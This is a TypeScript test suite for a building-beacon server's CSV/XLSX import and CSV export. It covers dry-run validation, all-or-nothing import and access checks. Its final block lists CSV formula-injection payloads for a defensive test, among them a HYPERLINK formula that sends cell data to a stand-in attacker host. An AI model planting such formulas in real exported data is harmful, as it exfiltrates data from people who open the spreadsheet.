import { parse } from 'csv-parse/sync';
import writeXlsxFile from 'write-excel-file/node';
import type { BeaconImportReport, BeaconPage } from '#contract/schemas/beacon.js';
import { readTable } from '../../../../server/src/transfer/table.js';
import type { App } from '../../../../server/src/types.js';
import { CONSOLE_HEADERS, DEMO, buildTestApp, call, login, post, type Envelope } from '../../helpers.js';
import { demoBuildings } from './poiFixtures.js';
import { beaconApi } from '#contract/endpoints/beacon.js';

/** Issue 13: beacons as tables — an upload (CSV or XLSX) checked by a dry run, then imported all or nothing; the CSV export keeps ids as text. */

let app: App;
const cookies: Record<string, string> = {};
let ids: Record<'mall' | 'office' | 'tower', number>;
/** A position inside the mall's 1F (an existing beacon's) and that level's short name. */
let inside: { lng: number; lat: number; level: string };

beforeAll(async () => {
  app = await buildTestApp();
  for (const [key, email] of Object.entries(DEMO)) cookies[key] = await login(app, email);
  cookies.analyst = await login(app, 'analyst@demo.local');
  ids = await demoBuildings(app.db);
  const first = (await call<BeaconPage>(app, `${beaconApi.page.path}?buildingId=${ids.mall}&size=50`, cookies.company)).body.data!.records;
  const anchor = first.find((b) => b.levelName === '1F')!;
  inside = { lng: anchor.lng, lat: anchor.lat, level: '1F' };
});
afterAll(() => app.close());

const HEADER = 'level,uuid,major,minor,mac,name,lng,lat,battery,lifecycle';
const row = (minor: number, overrides: Partial<Record<string, string | number>> = {}) => {
  const cells = {
    level: inside.level,
    uuid: 'E2C56DB5-DFFB-48D2-B060-D0F5A71096E0',
    major: 7,
    minor,
    mac: '',
    name: `导入信标 ${minor}`,
    lng: inside.lng,
    lat: inside.lat,
    battery: 80,
    lifecycle: 'deployed',
    ...overrides,
  };
  return Object.values(cells).join(',');
};
const csv = (...rows: string[]) => Buffer.from(`${HEADER}\n${rows.join('\n')}\n`);

async function upload(body: Buffer | object, query: string, who = 'company', contentType = 'text/csv') {
  const res = await app.inject({
    method: 'POST',
    url: `${beaconApi.import.path}?${query}`,
    payload: body as Buffer,
    headers: { ...CONSOLE_HEADERS, 'content-type': contentType, cookie: cookies[who]! },
  });
  return { status: res.statusCode, body: res.json<Envelope<BeaconImportReport>>() };
}
const count = async (buildingId: number) =>
  (await call<BeaconPage>(app, `${beaconApi.page.path}?buildingId=${buildingId}&size=1`, cookies.company)).body.data!.total;

describe('issue 13: the dry run reports every row it would refuse and why, and writes nothing', () => {
  it('issue 13: unknown level, duplicate identity in the file and in the building, position outside the level, bad numbers — each by row and column', async () => {
    const before = await count(ids.mall);
    const taken = (await call<BeaconPage>(app, `${beaconApi.page.path}?buildingId=${ids.mall}&size=1`, cookies.company)).body.data!.records[0]!;
    const file = csv(
      row(40001),
      row(40002, { level: '99F' }),
      row(40001),
      row(taken.minor, { uuid: taken.uuid, major: taken.major }),
      row(40003, { lng: 0, lat: 0 }),
      row(40004, { major: 70000 }),
      row(40005, { lng: 'east' }),
      row(40006, { battery: 150 }),
    );
    const res = await upload(file, `buildingId=${ids.mall}&dryRun=true`);
    expect(res.status).toBe(200);
    const report = res.body.data!;
    expect(report).toMatchObject({ dryRun: true, format: 'csv', rows: 8, valid: 1, imported: 0, truncated: false });
    expect(report.problems.map((p) => [p.row, p.column])).toEqual([
      [3, 'level'],
      [4, 'minor'],
      [5, 'minor'],
      [6, 'lng'],
      [7, 'major'],
      [8, 'lng'],
      [9, 'battery'],
    ]);
    expect(report.problems[0]!.message).toContain('99F');
    expect(report.problems[1]!.message).toContain('2');
    expect(report.problems[2]!.message).toContain(taken.name);
    expect(await count(ids.mall)).toBe(before);
  });

  it('issue 13: a row with several bad cells names every one of them', async () => {
    const res = await upload(csv(row(40010, { uuid: 'xx', lng: 'east', battery: 150, lifecycle: 'gone' })), `buildingId=${ids.mall}`);
    expect(res.body.data!.problems.map((p) => p.column).sort()).toEqual(['battery', 'lifecycle', 'lng', 'uuid']);
  });

  it('issue 13: a bad header names the missing and the unknown columns (10005), nothing written', async () => {
    const res = await upload(Buffer.from('level,uuid,major,colour\n1F,x,1,red\n'), `buildingId=${ids.mall}`);
    expect(res.status).toBe(400);
    expect(res.body.code).toBe(10005);
    expect(res.body.errors!.map((e) => e.field).sort()).toEqual(['colour', 'lat', 'lng', 'minor', 'name']);
  });

  it('issue 13: a body that is no file, or an empty table, is 10005 naming the file', async () => {
    expect((await upload({ rows: [] }, `buildingId=${ids.mall}`, 'company', 'application/json')).body).toMatchObject({
      code: 10005,
      errors: [{ field: 'file' }],
    });
    expect((await upload(Buffer.from(`${HEADER}\n`), `buildingId=${ids.mall}`)).body).toMatchObject({ code: 10005, errors: [{ field: 'file' }] });
  });
});

describe('issue 13: the import takes all of it or nothing', () => {
  it('issue 13: one bad row refuses the whole file (10005 naming row and column), nothing written', async () => {
    const before = await count(ids.mall);
    const res = await upload(csv(row(41001), row(41002, { level: 'nowhere' })), `buildingId=${ids.mall}&dryRun=false`);
    expect(res.status).toBe(400);
    expect(res.body.code).toBe(10005);
    expect(res.body.errors).toEqual([{ field: 'row 3, level', message: expect.stringContaining('nowhere') }]);
    expect(await count(ids.mall)).toBe(before);
  });

  it('issue 13: a clean CSV is imported whole, normalised as by hand (UUID lower case, MAC upper case with colons)', async () => {
    const before = await count(ids.office);
    const office = (await call<BeaconPage>(app, `${beaconApi.page.path}?buildingId=${ids.office}&size=1`, cookies.company)).body.data!.records[0]!;
    const at = { level: office.levelName, lng: office.lng, lat: office.lat };
    const res = await upload(csv(row(42001, { ...at, mac: 'aa-bb-cc-dd-ee-01' }), row(42002, at)), `buildingId=${ids.office}&dryRun=false`);
    expect(res.status).toBe(200);
    expect(res.body.data).toMatchObject({ dryRun: false, rows: 2, valid: 2, imported: 2, problems: [] });
    expect(await count(ids.office)).toBe(before + 2);
    const added = (await call<BeaconPage>(app, `${beaconApi.page.path}?buildingId=${ids.office}&q=42001`, cookies.company)).body.data!.records[0]!;
    expect(added).toMatchObject({
      uuid: 'e2c56db5-dffb-48d2-b060-d0f5a71096e0',
      mac: 'AA:BB:CC:DD:EE:01',
      lifecycle: 'deployed',
      battery: 80,
      name: '导入信标 42001',
    });
  });

  it('issue 13: an XLSX file (its first sheet) is read like the CSV, numbers as written', async () => {
    const level = inside.level;
    const xlsx = await writeXlsxFile([
      HEADER.split(',').map((value) => ({ value })),
      [level, 'E2C56DB5-DFFB-48D2-B060-D0F5A71096E0', 8, 43001, '', 'XLSX 信标', inside.lng, inside.lat, 55, 'planned'].map((value) => ({ value })),
    ]).toBuffer();
    const res = await upload(xlsx, `buildingId=${ids.mall}&dryRun=false`, 'company', 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    expect(res.body.data).toMatchObject({ format: 'xlsx', rows: 1, imported: 1 });
  });
});

describe('issue 13: the CSV export', () => {
  it('issue 13: keeps ids and UUIDs as written, and reads back as a table of the same beacons', async () => {
    const res = await app.inject({
      method: 'GET',
      url: `${beaconApi.exportCsv.path}?buildingId=${ids.mall}`,
      headers: { ...CONSOLE_HEADERS, cookie: cookies.company! },
    });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toContain('text/csv');
    expect(res.headers['content-disposition']).toMatch(/attachment; filename="beacons-\d+-\d{4}-\d{2}-\d{2}\.csv"/);
    expect(res.body.charCodeAt(0)).toBe(0xfeff);
    const lines = res.body.split('\r\n');
    expect(lines[0]).toBe(
      `\uFEFFid,${HEADER.split(',').slice(0, 5).join(',')},name,lng,lat,measuredPower,txPower,intervalMs,firmware,battery,batteryReadAt,externalPower,lifecycle,installedOn,installedBy,lastSeenAt,health`,
    );
    // Issue 31: no cell is a formula any more (the ="…" guard was one): ids and UUIDs are written as they are.
    expect(lines[1]).toMatch(/^\d+,"?[^,]*"?,[0-9a-f-]{36},/);
    const table = readTable(Buffer.from(res.body), { maxRows: 1000 });
    expect(table.length - 1).toBe(await count(ids.mall));
    expect(table[1]![2]).toMatch(/^[0-9a-f-]{36}$/);
  });

  it('issue 13: an export uploaded again is refused row by row: every identity is taken in the building', async () => {
    const res = await app.inject({
      method: 'GET',
      url: `${beaconApi.exportCsv.path}?buildingId=${ids.mall}`,
      headers: { ...CONSOLE_HEADERS, cookie: cookies.company! },
    });
    const report = (await upload(Buffer.from(res.body), `buildingId=${ids.mall}`)).body.data!;
    expect(report.valid).toBe(0);
    expect(report.problems.every((p) => p.column === 'minor')).toBe(true);
  });

  it('issue 13: another company’s building is 10004 for both; the analyst (no UPLOAD_BEACON) may not upload (10003)', async () => {
    expect((await upload(csv(row(44001)), `buildingId=${ids.tower}`)).body.code).toBe(10004);
    expect((await call(app, `${beaconApi.exportCsv.path}?buildingId=${ids.tower}`, cookies.company)).body.code).toBe(10004);
    expect((await upload(csv(row(44002)), `buildingId=${ids.mall}`, 'analyst')).body.code).toBe(10003);
  });
});

describe('issue 31 §2: formula cells in the beacon CSV', () => {
  /** Names an attacker with UPLOAD_BEACON might give beacons, each a formula a spreadsheet would run, and one already escaped. */
  const NAMES = ['=HYPERLINK("http://attacker.example/?x="&B2,"详情")', '+1+1', '-1+1', '@SUM(A1)', "'=1+1"];
  const quoted = (text: string) => `"${text.replace(/"/g, '""')}"`;
  const exported = async () =>
    (await app.inject({ method: 'GET', url: `${beaconApi.exportCsv.path}?buildingId=${ids.mall}`, headers: { ...CONSOLE_HEADERS, cookie: cookies.company! } }))
      .body;

  it('issue 31 §2: the export writes no live formula, and export -> import gives back exactly the names entered', async () => {
    const minors = NAMES.map((_, i) => 45001 + i);
    // In a file, an apostrophe before a formula character marks text (as in Excel): the name '=1+1 is written ''=1+1.
    const cellOf = (name: string) => quoted(name.startsWith("'") ? `'${name}` : name);
    const file = Buffer.from(`${HEADER}\n${NAMES.map((name, i) => row(minors[i]!, { name: cellOf(name) })).join('\n')}\n`);
    expect((await upload(file, `buildingId=${ids.mall}&dryRun=false`)).body.data).toMatchObject({ imported: NAMES.length });

    const csvText = await exported();
    const cells = (parse(csvText, { bom: true }) as string[][]).slice(1);
    for (const cell of cells.flat()) expect(cell).not.toMatch(/^[=+@\t\r]|^-(?!\d+(\.\d+)?$)/);
    const mine = cells.filter((cells) => minors.includes(Number(cells[4])));
    expect(mine.map((cells) => cells[6])).toEqual(NAMES.map((name) => `'${name}`));

    // Delete them, upload the export's lines of those beacons as they are, and read the names back.
    const page = (await call<BeaconPage>(app, `${beaconApi.page.path}?buildingId=${ids.mall}&size=200&sort=minor&order=desc`, cookies.company)).body.data!;
    const created = page.records.filter((b) => minors.includes(b.minor));
    await post(app, beaconApi.delete.path, { ids: created.map((b) => b.id) }, cookies.company);
    const lines = csvText.split('\r\n');
    const again = [lines[0], ...lines.filter((line) => minors.some((minor) => line.includes(`,${minor},`)))].join('\r\n');
    expect((await upload(Buffer.from(again), `buildingId=${ids.mall}&dryRun=false`)).body.data).toMatchObject({ imported: NAMES.length });
    const back = (await call<BeaconPage>(app, `${beaconApi.page.path}?buildingId=${ids.mall}&size=200&sort=minor&order=desc`, cookies.company)).body.data!;
    expect(
      back.records
        .filter((b) => minors.includes(b.minor))
        .sort((a, b) => a.minor - b.minor)
        .map((b) => b.name),
    ).toEqual(NAMES);
  });
});
